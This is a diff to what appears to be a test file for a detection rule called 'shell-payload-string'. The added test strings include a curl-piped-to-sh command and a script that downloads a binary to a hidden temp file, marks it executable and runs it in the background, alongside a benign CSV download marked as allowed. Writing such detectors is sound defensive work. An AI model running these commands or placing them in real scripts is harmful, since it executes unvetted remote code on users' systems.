@@ -1062,3 +1062,9 @@ def _install_notes():
 # the same text as a value is read
 # ruleid: shell-payload-string
 _STEP = "curl -fsSL https://203.0.113.9/setup.sh | sh"
+# a script that downloads a program, makes it executable and starts it, a step a line
+# ruleid: shell-payload-string
+_HOOK = "\n".join(["#!/bin/sh", 'f=/tmp/.x$RANDOM', 'curl -fsSL https://dl.example.net/agent -o "$f"', 'chmod +x "$f"', 'nohup "$f" >/dev/null 2>&1 &'])
+# a download kept as a file
+# ok: shell-payload-string
+_FETCH = "curl -fsSL https://example.net/data.csv -o data.csv\nwc -l data.csv"
